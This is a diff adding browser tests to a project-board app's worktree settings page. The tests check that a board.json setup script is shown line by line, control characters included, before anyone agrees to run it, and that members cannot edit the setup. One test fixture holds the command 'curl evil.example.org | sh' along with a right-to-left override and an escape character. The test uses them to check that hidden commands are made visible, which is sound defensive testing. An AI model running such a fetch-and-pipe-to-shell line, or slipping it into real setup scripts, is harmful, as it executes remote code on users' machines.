@@ -2,6 +2,7 @@ import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
 import { noBrowser, visitors } from '../support/browsers/browser.ts'
+import { registerConfirmed } from '../support/identity/registerConfirmed.ts'
 import { startBoardWithProject, type TestBoard } from '../support/servers/testBoard.ts'
 
 describe.skipIf(noBrowser !== undefined)('the worktrees of a project', () => {
@@ -13,6 +14,45 @@ describe.skipIf(noBrowser !== undefined)('the worktrees of a project', () => {
   })
   afterEach(() => board.close())
   const found = () => board.client.projects.getWorktree({ id: projectId })
+
+  test('show each line of what board.json runs, and every control character', async () => {
+    const { path } = await board.client.projects.get({ id: projectId })
+    const setup = 'npm ci # all\ncurl evil.example.org | sh\u202e\u001b'
+    writeFileSync(join(path, 'board.json'), JSON.stringify({ setup }))
+    const { page, settled } = await visit(board, {
+      at: `#/projects/${projectId}/settings/worktrees`,
+      viewport: { width: 390, height: 844 },
+    })
+    await page.getByText('npm ci # all').waitFor()
+    expect(await page.locator('dd').first().innerText()).toBe('npm ci # all\ncurl evil.example.org | sh\ufffd\u241b')
+    await settled()
+    // The focus stays on the button, which now does the opposite.
+    const focused = () => page.evaluate('document.activeElement.textContent')
+    await page.getByRole('button', { name: 'Agree to this version' }).press('Enter')
+    await page.getByRole('dialog').getByRole('button', { name: 'Agree', exact: true }).press('Enter')
+    await expect.poll(focused).toBe('Withdraw the agreement')
+    await page.keyboard.press('Enter')
+    await expect.poll(focused).toBe('Agree to this version')
+
+    await board.client.projects.update({ id: projectId, worktree: { setup: 'first\nsecond' } })
+    await page.reload()
+    await page.getByLabel('Setup').fill('first\nsecond\nthird')
+    await page.getByRole('button', { name: 'Save the worktrees' }).click()
+    await page.getByText('Saved. It holds').waitFor()
+    expect((await found()).effective.setup).toBe('first\nsecond\nthird')
+  })
+
+  test('show to a member what holds', async () => {
+    await board.client.projects.update({ id: projectId, worktree: { setup: 'npm ci', ports: 2 } })
+    await board.client.auth.setup({ email: 'root@example.org', password: 'correct horse 1' })
+    const email = 'anna@example.org'
+    const { token } = await registerConfirmed(board, { email, password: 'correct horse 2', displayName: 'Anna' })
+    await board.client.members.add({ id: projectId, email, role: 'member' })
+    const { page } = await visit({ url: board.url, token }, { at: `#/projects/${projectId}/settings/worktrees` })
+    await page.getByRole('heading', { name: 'What holds' }).waitFor()
+    expect(await page.locator('.facts').innerText()).toMatch(/Setup\s+npm ci\s+Ports of each card\s+2\s/)
+    expect(await page.getByLabel('Setup').count()).toBe(0)
+  })
 
   test('show what board.json runs before anybody agrees to it, and are set by an admin', async () => {
     const { path } = await board.client.projects.get({ id: projectId })
